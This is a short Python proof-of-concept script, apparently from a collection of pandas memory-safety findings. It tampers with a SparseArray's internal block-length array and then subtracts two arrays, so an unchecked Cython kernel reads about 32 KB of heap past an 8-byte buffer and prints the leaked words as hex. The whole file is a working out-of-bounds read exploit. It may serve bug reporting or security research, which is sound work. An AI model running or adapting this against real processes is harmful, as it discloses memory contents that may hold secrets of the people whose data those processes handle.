# source: pandas/_libs/sparse.pyx BlockIndex.lenbuf + sparse_op_helper.pxi.in block_op_sub_float64 (@boundscheck(False))
# family: writable internal index arrays of pandas objects (SparseArray.sp_index.blengths) read unchecked by Cython kernels
# goal: out-of-bounds heap read of ~32 KB after an 8-byte buffer (float64 path, subtraction), heap words shown as int64
import numpy as np
import pandas as pd

a = np.zeros(4096, dtype=np.float64)
a[0] = 1.0
x = pd.arrays.SparseArray(a, kind="block", fill_value=0.0)
y = pd.arrays.SparseArray(a, kind="block", fill_value=0.0)
x.sp_index.blengths[0] = 4000
r = np.asarray(x - y)
bits = r.view(np.int64)
print("x.sp_values length:", len(x.sp_values), "- result length:", len(r))
print("nonzero heap words read:", int((bits != 0).sum()))
print([hex(int(v)) for v in bits[1:24]])
